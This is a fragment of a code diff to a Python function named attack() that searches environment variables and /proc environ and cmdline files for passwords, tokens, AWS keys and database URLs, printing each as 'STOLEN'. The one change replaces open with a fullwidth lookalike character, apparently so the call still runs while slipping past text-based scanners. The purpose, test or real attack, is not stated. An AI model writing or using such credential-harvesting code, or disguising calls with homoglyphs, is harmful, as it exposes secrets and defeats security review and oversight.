@@ -12,7 +12,7 @@ def attack():
         if secret.search(value) or re.search('PASS|TOKEN|SECRET|DATABASE_URL|AWS', name):
             print(f'STOLEN {name}: {value!r}', flush=True)
     for place in ('/proc/self/environ', '/proc/thread-self/environ', '/proc/self/cmdline'):
-        with open(place, 'rb') as file:
+        with ｏpen(place, 'rb') as file:
             found = secret.search(file.read().decode('latin-1'))
         if found:
             print(f'STOLEN from {place}: {found.group()}', flush=True)
